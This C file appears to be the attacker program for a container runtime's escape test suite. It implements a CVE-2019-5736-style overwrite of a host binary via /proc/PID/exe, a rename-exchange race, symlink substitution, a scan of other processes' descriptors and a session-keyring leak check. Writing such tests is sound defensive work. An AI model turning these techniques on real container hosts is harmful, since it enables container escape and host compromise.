/* The attacker of tests/cli/oci_escape.sh: linked statically, so that it runs in an empty root.
 *
 *   overwrite FIFO OPTION   opens /proc/PID/exe of another program with that first option, says
 *                           HELD, lets who is stuck at FIFO go, and writes over what it ran
 *   swap A B                exchanges two names as fast as it can, until it is ended
 *   usurp NAME TARGET       puts links to TARGET in the place of whatever is made as NAME
 *   peek                    tells what it can see of processes that run another program than its
 *                           own or busybox, until /done is there
 *   keyring COMMAND...      runs the command in a session with a key, "secret"
 *   key                     says FOUND if its session has that key
 *
 * Its last word on standard output is what came of it: WRITTEN, or the name of the errno. */
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

enum { PATIENCE_MS = 20000 };

static int say(const char *word)
{
	puts(word);
	fflush(stdout);
	return 0;
}

static void a_moment(void)
{
	usleep(1000);
}

static bool has_option(int pid, const char *option)
{
	char path[64], line[256] = "";
	ssize_t n;
	int fd;

	snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
	fd = open(path, O_RDONLY);
	n = fd < 0 ? -1 : read(fd, line, sizeof line - 1);
	close(fd);
	return n > 0 && !strncmp(line + strlen(line) + 1, option, strlen(option));
}

/* A process whose program is not ours and whose first argument begins so: its exe, held open. */
static int open_other_program(const char *option)
{
	struct stat own, its;

	stat("/proc/self/exe", &own);
	for (int ms = 0; ms < PATIENCE_MS; ms++) {
		for (int pid = 1; pid < 100; pid++) {
			char path[64];
			int fd;
			snprintf(path, sizeof path, "/proc/%d/exe", pid);
			fd = open(path, O_PATH);
			if (fd < 0)
				continue;
			if (fstat(fd, &its) == 0 && its.st_ino != own.st_ino &&
			        has_option(pid, option))
				return fd;
			close(fd);
		}
		a_moment();
	}
	return -1;
}

/* The way of CVE-2019-5736: a link to the file is kept, and written through when it is no longer
 * busy. */
static int overwrite(const char *fifo, const char *option)
{
	static const char marker[] = "#!/bin/sh\necho overwritten\n";
	int exe = open_other_program(option), error = ETIMEDOUT;
	char path[64];

	if (exe < 0)
		return say("NOBODY");
	say("HELD");
	/* Who waits to write to the pipe is let go by a reader; it then ends. */
	open(fifo, O_RDONLY | O_NONBLOCK);
	snprintf(path, sizeof path, "/proc/self/fd/%d", exe);
	for (int ms = 0; ms < PATIENCE_MS; ms++) {
		int fd = open(path, O_WRONLY);
		if (fd >= 0) {
			error = write(fd, marker, sizeof marker - 1) < 0 ? errno : 0;
			break;
		}
		error = errno;
		if (error != ETXTBSY)
			break;
		a_moment();
	}
	return say(error ? strerrorname_np(error) : "WRITTEN");
}

static int swap(const char *a, const char *b)
{
	for (;;)
		if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0)
			return say(strerrorname_np(errno));
}

/* Gives way for a moment, so that something can be made, and takes the place of it. */
static int usurp(const char *name, const char *target)
{
	char link[512];

	snprintf(link, sizeof link, "%s.link", name);
	for (;;) {
		unlink(name);
		if ((symlink(target, link) < 0 && errno != EEXIST) || rename(link, name) < 0)
			return say(strerrorname_np(errno));
	}
}

/* ---- what a process on its way into the container shows ------------------------------------- */

static void tell_descriptors(int pid)
{
	for (int fd = 3; fd < 64; fd++) {
		char path[64], to[256];
		ssize_t n;
		snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
		n = readlink(path, to, sizeof to - 1);
		if (n > 0)
			printf("FD %d %.*s\n", fd, (int)n, to);
	}
}

static int peek(void)
{
	while (access("/done", F_OK) < 0) {
		for (int pid = 1; pid < 400; pid++) {
			char path[64], exe[256];
			ssize_t n;
			snprintf(path, sizeof path, "/proc/%d/exe", pid);
			n = readlink(path, exe, sizeof exe - 1);
			if (n <= 0)
				continue;
			exe[n] = '\0';
			if (!strcmp(exe, "/bin/attack") || !strcmp(exe, "/bin/busybox"))
				continue;
			printf("EXE %s\n", exe);
			tell_descriptors(pid);
		}
	}
	return say("DONE");
}

/* ---- keys ----------------------------------------------------------------------------------- */

static int keyring(char **command)
{
	if (syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL) < 0 ||
	        syscall(SYS_add_key, "user", "secret", "x", 1, KEY_SPEC_SESSION_KEYRING) < 0)
		return say(strerrorname_np(errno));
	execvp(command[0], command);
	return 127;
}

static int find_key(void)
{
	long id = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", "secret", 0);

	return say(id < 0 ? strerrorname_np(errno) : "FOUND");
}

int main(int argc, char **argv)
{
	const char *verb = argc > 1 ? argv[1] : "";

	if (!strcmp(verb, "overwrite") && argc == 4)
		return overwrite(argv[2], argv[3]);
	if (!strcmp(verb, "swap") && argc == 4)
		return swap(argv[2], argv[3]);
	if (!strcmp(verb, "usurp") && argc == 4)
		return usurp(argv[2], argv[3]);
	if (!strcmp(verb, "peek"))
		return peek();
	if (!strcmp(verb, "keyring") && argc > 2)
		return keyring(argv + 2);
	if (!strcmp(verb, "key"))
		return find_key();
	fprintf(stderr, "attack: overwrite FIFO OPTION | swap A B | usurp NAME TARGET | peek | "
	                "keyring COMMAND | key\n");
	return 2;
}
